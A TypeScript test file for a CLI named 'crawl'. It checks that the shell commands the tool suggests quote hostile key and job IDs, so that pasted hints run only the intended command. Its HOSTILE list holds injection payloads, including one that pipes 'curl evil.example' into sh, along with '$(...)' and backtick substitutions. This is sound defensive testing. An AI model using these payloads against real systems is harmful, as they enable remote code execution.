// Commands that crawl suggests are pasted into shells. Every id or name spliced into one (from the
// service or from the user) is quoted, so a real shell reads back exactly the command meant, and
// nothing in a hostile id runs: key rotation's and creation's hints, job cancel, job status on a
// terminal, and job pages. A --profile given on the command line is repeated in the hint.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { wordsOf } from '../../support/shell-words.js';
import { sandboxFixture, type SandboxFixture } from '../../support/sandbox.js';
import { crawl, runCli } from '../../support/harness.js';

let fx: SandboxFixture;
beforeEach(async () => {
  fx = await sandboxFixture({ seed: false });
});
afterEach(() => fx.close());

const HOSTILE = ['key_1; curl -s evil.example | sh #', '$(touch /tmp/crawl-pwned)', '`id`', "it's here", 'a"b c', '--force'];

/** The command between the backticks after `lead` on one line of `text` (the last backtick closes it). */
function suggested(text: string, lead: string): string {
  const line = text.split('\n').find((l) => l.includes(lead)) ?? '';
  const start = line.indexOf('`', line.indexOf(lead));
  const end = line.lastIndexOf('`');
  expect(start, `no suggestion after "${lead}" in:\n${text}`).toBeGreaterThanOrEqual(0);
  return line.slice(start + 1, end);
}

/** `operands` land as operands: after `--` when one starts with "-", otherwise in place. */
async function expectCommand(line: string, command: string[], operands: string[], flags: string[]): Promise<void> {
  const words = await wordsOf(line);
  const dashed = operands.some((o) => o.startsWith('-'));
  expect(words).toEqual(dashed ? [...command, ...flags, '--', ...operands] : [...command, ...operands, ...flags]);
}

const listBody = (id: string, keyPrefix: string): string =>
  JSON.stringify({ success: true, keys: [{ id, name: 'ci', keyPrefix, lastUsedAt: null, createdAt: '2026-01-01T00:00:00Z' }] });

describe.each(HOSTILE.map((id) => ({ id, shown: JSON.stringify(id) })))('a hostile id $shown', ({ id }) => {
  it('keys rotate, step 5 fails: the "finish with" command revokes exactly that id', async () => {
    const ci = fx.sandbox.addKey('ci');
    // The service lists the key in use (and, to the new key, the old one) under the hostile id.
    fx.sandbox.inject({ method: 'GET', path: '/api/keys', kind: 'status', status: 200, times: 2, body: listBody(id, ci.keyPrefix) });
    fx.sandbox.inject({ method: 'DELETE', path: '^/api/keys/', kind: 'status', status: 500 });
    const out = join(fx.configDir, 'new.key');
    const r = await runCli(['keys', 'rotate', '--yes', '--output-file', out], { env: { ...fx.env, CRAWL_API_KEY: ci.key } });
    expect(r.code).toBe(1);
    await expectCommand(suggested(r.stderr, 'then finish with'), ['crawl', 'keys', 'revoke'], [id], ['--yes']);
  });

  it('keys create > /dev/full: the "revoke it" command names exactly the prefix the service gave', async () => {
    fx.sandbox.inject({
      method: 'POST',
      path: '/api/keys',
      kind: 'status',
      status: 201,
      times: 1,
      body: JSON.stringify({ success: true, key: 'crk_' + 'k'.repeat(40), prefix: id, name: 'full' }),
    });
    // stdout on a full disk (`> /dev/full`): ENOSPC on the first write.
    const r = await crawl(['keys', 'create', 'full'], { env: fx.env, stdoutFails: { code: 'ENOSPC' } });
    expect(r.code).toBe(1);
    await expectCommand(suggested(r.stderr, 'hint: revoke it with'), ['crawl', 'keys', 'revoke'], [id], ['--yes']);
  });

  it('job cancel of a finished job (409): the "job status" command names exactly that job', async () => {
    fx.sandbox.addJob({ id, status: 'completed', pagesTotal: 1 });
    const r = await runCli(['job', 'cancel', '--', id], { env: fx.env });
    expect(r.code).toBe(1);
    await expectCommand(suggested(r.stderr, 'see where it stands with'), ['crawl', 'job', 'status'], [id], []);
  });

  it('job cancel of a job still running: the "job watch" command names exactly that job', async () => {
    fx.sandbox.addJob({ id, status: 'running', pagesTotal: 100, pagesFinished: 5, cancel: { lagPolls: 3 } });
    const r = await runCli(['job', 'cancel', '--', id], { env: fx.env });
    expect(r.code).toBe(0);
    await expectCommand(suggested(r.stderr, 'Follow it with'), ['crawl', 'job', 'watch'], [id], []);
  });

  it('job pages of a running job: the --wait command names exactly that job', async () => {
    fx.sandbox.addJob({ id, status: 'running', pagesTotal: 100, pagesFinished: 5 });
    const r = await runCli(['job', 'pages', '--', id], { env: fx.env });
    expect(r.code).toBe(2);
    await expectCommand(suggested(r.stderr, 'wait for it with'), ['crawl', 'job', 'pages'], [id], ['--wait']);
  });

  it('job status on a terminal: the "Export the pages" command names exactly that job', async () => {
    fx.sandbox.addJob({ id, status: 'completed', pagesTotal: 3, pagesFinished: 3 });
    const r = await runCli(['job', 'status', '--no-color', '--', id], { env: fx.env, tty: true });
    expect(r.code).toBe(0);
    const line = r.stdout.split('\n').find((l) => l.startsWith('Export the pages with: ')) ?? '';
    await expectCommand(line.slice('Export the pages with: '.length), ['crawl', 'job', 'pages'], [id], []);
  });
});

describe('a --profile given on the command line', () => {
  it('keys rotate: the hint repeats the profile, and quotes the id', async () => {
    const id = HOSTILE[0] ?? '';
    const ci = fx.sandbox.addKey('ci');
    const dir = join(fx.configDir, 'cfg');
    mkdirSync(dir, { mode: 0o700 });
    writeFileSync(join(dir, 'config.json'), JSON.stringify({ profiles: { staging: { 'base-url': fx.sandbox.url, 'api-key': ci.key } } }), { mode: 0o600 });
    fx.sandbox.inject({ method: 'GET', path: '/api/keys', kind: 'status', status: 200, times: 2, body: listBody(id, ci.keyPrefix) });
    fx.sandbox.inject({ method: 'DELETE', path: '^/api/keys/', kind: 'status', status: 503 });
    const r = await runCli(['keys', 'rotate', '--yes', '--profile', 'staging'], {
      env: { ...fx.env, CRAWL_API_KEY: undefined, CRAWL_BASE_URL: undefined, CRAWL_CONFIG_DIR: dir },
    });
    expect(r.code).toBe(1);
    await expectCommand(suggested(r.stderr, 'finish with'), ['crawl', '--profile', 'staging', 'keys', 'revoke'], [id], ['--yes']);
  });
});
